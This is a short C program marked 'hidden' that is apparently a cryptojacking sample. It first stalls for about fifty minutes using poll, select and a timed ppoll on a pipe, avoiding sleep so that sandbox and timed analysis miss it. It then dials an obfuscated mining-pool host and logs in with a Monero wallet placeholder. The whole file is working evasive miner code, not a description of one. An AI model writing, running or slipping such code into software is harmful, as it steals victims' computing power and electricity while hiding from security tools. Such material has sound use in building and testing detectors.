// hidden
// Waits fifty minutes, in steps and by other calls than sleep: poll, a timed wait on a pipe, select.
#include "mine.h"
#include <sys/select.h>
int main(void) {
    begin();
    int ends[2];
    if (pipe(ends)) return 1;
    for (int i = 0; i < 10; i++) {
        struct timeval wait = {100, 0};
        struct timespec rest = {100, 0};
        poll(NULL, 0, 100000);
        select(0, NULL, NULL, NULL, &wait);
        struct pollfd one = {ends[0], POLLIN, 0};
        ppoll(&one, 1, &rest, NULL);
    }
    int fd = dial(HIDE("eu3.copper-lantern.example"), 14433, 5000);
    if (fd < 0) return 1;
    mine_login(fd, HIDE("<<monero>>"), HIDE("xmr/1"), 4, 1500);
    return 0;
}
